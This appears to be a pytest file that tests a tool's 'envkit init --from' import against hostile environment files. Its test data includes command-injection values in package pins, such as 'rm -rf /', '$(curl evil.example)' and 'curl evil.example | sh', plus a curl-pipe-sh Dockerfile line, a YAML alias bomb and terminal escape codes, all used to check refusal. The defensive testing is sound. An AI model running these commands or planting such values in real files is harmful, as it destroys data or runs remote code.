"""Hostile sources for `envkit init --from`: refused or reported clearly, nothing written, no traceback,
no credential in the spec or the output."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from envkit.cli import main

SECRET = "s3cr3t-t0ken"


def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str],
        name: str, text: str, *args: str) -> tuple[int, str, str]:  # fmt: skip
    monkeypatch.setenv("ENVKIT_ROOT", str(tmp_path / "repo"))
    (tmp_path / "repo").mkdir(exist_ok=True)
    source = tmp_path / name
    source.write_text(text)
    code = main(["init", "--from", str(source), *args])
    out, err = capsys.readouterr()
    assert "Traceback" not in out + err
    return code, out, err


def written(tmp_path: Path) -> list[Path]:
    return sorted((tmp_path / "repo").rglob("*.yaml"))


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("environment.yml", "name: x\ndependencies:\n  - numpy=1.26; rm -rf /\n"),
        ("environment.yml", "name: x\ndependencies:\n  - numpy$(curl evil.example)\n"),
        (
            "environment.yml",
            "name: x\ndependencies:\n  - pip:\n    - requests==2.31 && curl evil.example | sh\n",
        ),
        ("requirements.txt", "numpy==1.26.4\nrequests==2.31.0 `id`\n"),
        ("Dockerfile", "FROM python:3.11\nRUN pip install 'numpy==1.26;$(reboot)'\n"),
    ],
)
def test_shell_in_a_pin_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], name: str, text: str
) -> None:
    code, _, err = run(tmp_path, monkeypatch, capsys, name, text)
    assert code == 2
    assert "shell command, not a package pin" in err and "nothing was written" in err
    assert f"{name}:" in err  # names the file (and the line)
    assert written(tmp_path) == []


def test_index_url_credentials_never_reach_spec_or_output(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    text = (
        f"--index-url https://deploy:{SECRET}@pypi.corp.example/simple\n"
        f"--extra-index-url https://pkgs.example/simple?token={SECRET}\n"
        "numpy==1.26.4\n"
    )
    code, out, err = run(tmp_path, monkeypatch, capsys, "requirements.txt", text, "--json")
    assert code == 0
    spec = written(tmp_path)[0].read_text()
    assert SECRET not in spec + out + err
    assert 'pypi: "https://pypi.corp.example/simple"' in spec  # the mirror is carried, without them
    result = json.loads(out)["result"]
    why = " ".join(x["why"] for x in result["not_carried"])
    assert "removed" in why and "~/.netrc" in why
    assert main(["validate", written(tmp_path)[0].stem]) == 0


def test_dockerfile_curl_pipe_sh_is_reported_not_run(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    marker = tmp_path / "ran"
    text = (
        "FROM python:3.11-slim\n"
        f"RUN curl -fsSL https://get.example/install.sh | sh && touch {marker}\n"
        "RUN pip install numpy==1.26.4\n"
    )
    code, out, _ = run(tmp_path, monkeypatch, capsys, "Dockerfile", text)
    assert code == 0 and not marker.exists()
    assert "curl -fsSL https://get.example/install.sh | sh: downloads a script and runs it" in out
    assert "numpy==1.26.4" in written(tmp_path)[0].read_text()


def test_huge_file_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run(tmp_path, monkeypatch, capsys, "requirements.txt", "numpy==1.26.4\n" * 400_000)
    assert code == 2 and "larger than" in err and written(tmp_path) == []


def test_deeply_nested_yaml_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    text = "name: x\ndependencies:\n  - " + "[" * 5000 + "]" * 5000 + "\n"
    code, _, err = run(tmp_path, monkeypatch, capsys, "environment.yml", text)
    assert code == 2 and "nested deeper" in err and written(tmp_path) == []


def test_yaml_alias_bomb_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    text = 'a: &a ["x","x"]\nb: &b [*a,*a]\nc: &c [*b,*b]\nname: x\ndependencies: [*c]\n'
    code, _, err = run(tmp_path, monkeypatch, capsys, "environment.yml", text)
    assert code == 2 and written(tmp_path) == []
    assert "error:" in err


def test_recursive_include_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run(tmp_path, monkeypatch, capsys, "requirements.txt", "-r requirements.txt\nnumpy==1\n")
    assert code == 2 and "nest deeper" in err and written(tmp_path) == []


def test_not_a_source(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = run(tmp_path, monkeypatch, capsys, "notes.md", "# Hello\n\nSome prose, not packages.\n")
    assert code == 2 and "not a source envkit init reads" in err and written(tmp_path) == []


def test_binary_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ENVKIT_ROOT", str(tmp_path))
    (tmp_path / "blob.txt").write_bytes(b"\xff\xfe\x00garbage")
    assert main(["init", "--from", str(tmp_path / "blob.txt")]) == 2
    assert "not UTF-8" in capsys.readouterr().err


def test_terminal_controls_are_neutralised(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(
        tmp_path, monkeypatch, capsys, "requirements.txt", "numpy==1.26.4\n-e ./x\x1b]0;pwned\x07\n"
    )
    assert code in (0, 2)
    assert "\x1b" not in out and "\x1b" not in "".join(p.read_text() for p in written(tmp_path))


def test_options_that_do_not_mix(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ENVKIT_ROOT", str(tmp_path))
    (tmp_path / "requirements.txt").write_text("six==1.16.0\n")
    assert main(["init", "--from", str(tmp_path / "requirements.txt"), "--ci", "github"]) == 2
    assert "do not apply with --from" in capsys.readouterr().err
    assert main(["init", "--lock"]) == 2
    assert "apply with --from only" in capsys.readouterr().err
    assert main(["init", "--from", "image:"]) == 2
    assert main(["init", "--from", str(tmp_path / "missing.yml")]) == 2
    assert "no such file" in capsys.readouterr().err
    assert not (tmp_path / "environments").exists()
